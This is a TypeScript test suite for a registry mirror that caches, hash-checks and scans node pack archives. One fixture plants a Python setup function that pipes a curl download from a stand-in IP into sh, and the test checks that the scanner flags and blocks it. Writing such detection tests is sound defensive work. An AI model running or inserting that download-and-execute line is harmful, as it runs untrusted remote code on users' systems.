import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { readSyncState } from '../../src/modules/mirror/repository.js';
import { processQueuedJobs } from '../clients/support.js';
import { sampleArchive, seedPack, storeArchive } from '../helpers/catalogue.js';
import { packZip } from '../helpers/pack-zip.js';
import { buildMirror, startUpstream, syncNow, type Upstream } from './support.js';

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const KEY = 'acme/alpha/1.1.0/node.zip';

async function upstreamWithAlpha(): Promise<Upstream> {
  const upstream = await startUpstream();
  const acme = await upstream.t.factories.publisher({ id: 'acme' });
  await seedPack(upstream.t, { id: 'alpha', publisher: acme, versions: [{ version: '1.0.0' }, { version: '1.1.0' }] });
  return upstream;
}

async function storedFile(mirror: Awaited<ReturnType<typeof buildMirror>>, key: string) {
  return mirror.ctx.db.selectFrom('storage_files').selectAll().where('storage_key', '=', key).executeTakeFirst();
}

describe('mirrored archives', () => {
  it('fetches an archive from the upstream on first install, checks its hash, keeps it and serves it locally', async () => {
    const upstream = await upstreamWithAlpha();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);
    const bytes = sampleArchive('alpha', '1.1.0');

    const install = await mirror.anon.get('/nodes/alpha/install');
    expect(install.statusCode).toBe(200);
    expect(install.json().downloadUrl).toBe(`http://registry.test/files/${KEY}`);
    expect(await storedFile(mirror, KEY)).toBeUndefined();

    upstream.requests.length = 0;
    const first = await mirror.anon.get(`/files/${KEY}`);
    expect(first.statusCode).toBe(200);
    expect(first.headers.etag).toBe(`"${sha256(bytes)}"`);
    expect(first.rawPayload.equals(bytes)).toBe(true);
    expect(upstream.requests).toEqual([`/files/${KEY}`]);
    expect(await storedFile(mirror, KEY)).toMatchObject({ sha256: sha256(bytes), size_bytes: bytes.length });
    const version = await mirror.ctx.db
      .selectFrom('node_versions')
      .select('storage_file_id')
      .where('node_id', '=', 'alpha')
      .where('version', '=', '1.1.0')
      .executeTakeFirstOrThrow();
    expect(version.storage_file_id).toBe((await storedFile(mirror, KEY))?.id);

    // From now on the archive comes from this registry's storage, with its length known.
    const second = await mirror.anon.get(`/files/${KEY}`);
    expect(second.statusCode).toBe(200);
    expect(second.headers['content-length']).toBe(String(bytes.length));
    expect(second.rawPayload.equals(bytes)).toBe(true);
    expect(upstream.requests).toEqual([`/files/${KEY}`]);
    // Installing again hands out the same URL.
    expect((await mirror.anon.get('/nodes/alpha/install')).json().downloadUrl).toBe(
      `http://registry.test/files/${KEY}`,
    );
  });

  it('caches the archive on a HEAD probe too', async () => {
    const upstream = await upstreamWithAlpha();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);
    const head = await mirror.anon.inject({ method: 'HEAD', url: `/files/${KEY}` });
    expect(head.statusCode).toBe(200);
    await expect
      .poll(async () => (await storedFile(mirror, KEY))?.sha256)
      .toBe(sha256(sampleArchive('alpha', '1.1.0')));
  });

  it('refuses an archive whose bytes differ from the hash the upstream recorded, and stores nothing', async () => {
    const upstream = await upstreamWithAlpha();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);
    // Someone altered the upstream's stored file: it still announces the hash it recorded.
    const tampered = Buffer.from(sampleArchive('alpha', '1.1.0'));
    tampered[tampered.length - 1] = (tampered.at(-1) ?? 0) ^ 0xff;
    await writeFile(path.join(upstream.t.config.database.DATA_DIR, 'blobs', ...KEY.split('/')), tampered);

    const answer = await mirror.anon.get(`/files/${KEY}`);
    // The client never receives the archive: its last bytes wait for the check, which fails
    // (an archive this small is one chunk, so nothing was sent yet and the answer is a 502).
    expect(answer.statusCode).toBe(502);
    expect(answer.json()).toEqual({
      message: 'Upstream archive refused',
      error: 'its SHA-256 differs from the one the upstream recorded',
    });
    expect(await storedFile(mirror, KEY)).toBeUndefined();
    expect(await mirror.ctx.storage.get(KEY)).toBeNull();
    const version = await mirror.ctx.db
      .selectFrom('node_versions')
      .select('storage_file_id')
      .where('node_id', '=', 'alpha')
      .where('version', '=', '1.1.0')
      .executeTakeFirstOrThrow();
    expect(version.storage_file_id).toBeNull();
  });

  it('keeps serving cached archives and metadata while the upstream is down, and says so for the rest', async () => {
    const upstream = await upstreamWithAlpha();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);
    const bytes = sampleArchive('alpha', '1.1.0');
    expect((await mirror.anon.get(`/files/${KEY}`)).statusCode).toBe(200);
    await upstream.t.close();

    const cached = await mirror.anon.get(`/files/${KEY}`);
    expect(cached.statusCode).toBe(200);
    expect(cached.rawPayload.equals(bytes)).toBe(true);
    const install = await mirror.anon.get('/nodes/alpha/install?version=1.0.0');
    expect(install.statusCode).toBe(200);
    const uncached = await mirror.anon.get('/files/acme/alpha/1.0.0/node.zip');
    expect(uncached.statusCode).toBe(502);
    expect(uncached.json()).toEqual({
      message: 'Upstream registry unavailable',
      error: 'the archive is not cached here yet; try again later',
    });
    expect(await storedFile(mirror, 'acme/alpha/1.0.0/node.zip')).toBeUndefined();

    // A sync against the dead upstream fails with its reason and loses nothing.
    await syncNow(mirror);
    const state = await readSyncState(mirror.ctx.db);
    expect(state?.status).toBe('failed');
    expect(state?.last_error).toMatch(/^upstream unavailable for http:\/\/127\.0\.0\.1:\d+\/nodes\?page=1/);
    expect((await mirror.anon.get('/nodes?limit=10')).json().nodes.map((n: { id: string }) => n.id)).toEqual(['alpha']);
    expect((await mirror.anon.get('/nodes/alpha/versions')).json()).toHaveLength(2);
  });
});

describe('analysis of cached mirrored archives', () => {
  it('extracts the classes and flags a version whose code the scan finds dangerous, as for uploads', async () => {
    const upstream = await startUpstream();
    const acme = await upstream.t.factories.publisher({ id: 'acme' });
    const risky = Buffer.from(
      packZip({
        name: 'risky',
        version: '1.0.0',
        files: {
          '__init__.py': [
            'import os',
            '',
            'class RiskyNode:',
            '    CATEGORY = "risk"',
            '',
            'def setup():',
            '    os.system("curl -fsSL https://203.0.113.7/install.sh | sh")',
            '',
            'NODE_CLASS_MAPPINGS = {"RiskyNode": RiskyNode}',
            '',
          ].join('\n'),
        },
      }),
    );
    const pack = await seedPack(upstream.t, {
      id: 'risky',
      publisher: acme,
      versions: [{ version: '1.0.0', archive: false }],
    });
    const file = await storeArchive(upstream.t, 'acme/risky/1.0.0/node.zip', risky);
    await upstream.t.ctx.db
      .updateTable('node_versions')
      .set({ storage_file_id: file.id })
      .where('id', '=', pack.versions[0]?.id ?? '')
      .execute();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);

    expect((await mirror.anon.get('/files/acme/risky/1.0.0/node.zip')).rawPayload.equals(risky)).toBe(true);
    await processQueuedJobs(mirror);

    const version = await mirror.ctx.db
      .selectFrom('node_versions')
      .selectAll()
      .where('node_id', '=', 'risky')
      .executeTakeFirstOrThrow();
    expect(version.status).toBe('NodeVersionStatusFlagged');
    expect(JSON.parse(version.status_reason)).toEqual([
      expect.objectContaining({ issue_type: 'download_and_execute' }),
    ]);
    const classes = await mirror.ctx.db
      .selectFrom('comfy_nodes')
      .select(['name', 'source'])
      .where('node_version_id', '=', version.id)
      .execute();
    expect(classes).toEqual([{ name: 'RiskyNode', source: 'archive' }]);
    // Flagged here: no longer installable, and the next sync does not undo it.
    expect((await mirror.anon.get('/nodes/risky/install?version=1.0.0')).statusCode).toBe(403);
    await syncNow(mirror, { full: true });
    expect(
      (
        await mirror.ctx.db
          .selectFrom('node_versions')
          .select('status')
          .where('node_id', '=', 'risky')
          .executeTakeFirstOrThrow()
      ).status,
    ).toBe('NodeVersionStatusFlagged');
  });

  it('stores the README of a mirrored archive for the pack page', async () => {
    const upstream = await startUpstream();
    const acme = await upstream.t.factories.publisher({ id: 'acme' });
    const zip = Buffer.from(packZip({ name: 'docs', version: '1.0.0', files: { 'README.md': '# Docs pack\n' } }));
    const pack = await seedPack(upstream.t, {
      id: 'docs',
      publisher: acme,
      versions: [{ version: '1.0.0', archive: false }],
    });
    const file = await storeArchive(upstream.t, 'acme/docs/1.0.0/node.zip', zip);
    await upstream.t.ctx.db
      .updateTable('node_versions')
      .set({ storage_file_id: file.id })
      .where('id', '=', pack.versions[0]?.id ?? '')
      .execute();
    const mirror = await buildMirror(upstream);
    await syncNow(mirror);
    expect((await mirror.anon.get('/nodes/docs/readme')).statusCode).toBe(404);
    expect((await mirror.anon.get('/files/acme/docs/1.0.0/node.zip')).statusCode).toBe(200);
    await processQueuedJobs(mirror);

    const readme = await mirror.anon.get('/nodes/docs/readme');
    expect(readme.statusCode).toBe(200);
    expect(readme.json()).toEqual({
      node_id: 'docs',
      version: '1.0.0',
      file_name: 'README.md',
      format: 'markdown',
      content: '# Docs pack\n',
      size_bytes: 12,
      truncated: false,
    });
  });
});

describe('eager caching', () => {
  it('fetches every active archive during the sync, latest versions first, up to the size cap', async () => {
    const upstream = await upstreamWithAlpha();
    const acme = await upstream.t.ctx.db
      .selectFrom('publishers')
      .selectAll()
      .where('id', '=', 'acme')
      .executeTakeFirstOrThrow();
    await seedPack(upstream.t, { id: 'beta', publisher: acme, versions: [{ version: '0.1.0' }] });

    const eager = await buildMirror(upstream, { UPSTREAM_CACHE: 'eager' });
    await syncNow(eager);
    const keys = (
      await eager.ctx.db.selectFrom('storage_files').select('storage_key').orderBy('storage_key').execute()
    ).map((r) => r.storage_key);
    expect(keys).toEqual(['acme/alpha/1.0.0/node.zip', 'acme/alpha/1.1.0/node.zip', 'acme/beta/0.1.0/node.zip']);
    expect(JSON.parse((await readSyncState(eager.ctx.db))?.counts ?? '{}')).toMatchObject({ archivesCached: 3 });

    // A cap of one byte: the first archive (a latest version) is fetched, then the cap is reached.
    const capped = await buildMirror(upstream, { UPSTREAM_CACHE: 'eager', UPSTREAM_CACHE_MAX_BYTES: '1' });
    await syncNow(capped);
    const cappedKeys = (await capped.ctx.db.selectFrom('storage_files').select('storage_key').execute()).map(
      (r) => r.storage_key,
    );
    expect(cappedKeys).toHaveLength(1);
    expect(['acme/alpha/1.1.0/node.zip', 'acme/beta/0.1.0/node.zip']).toContain(cappedKeys[0]);
  });
});
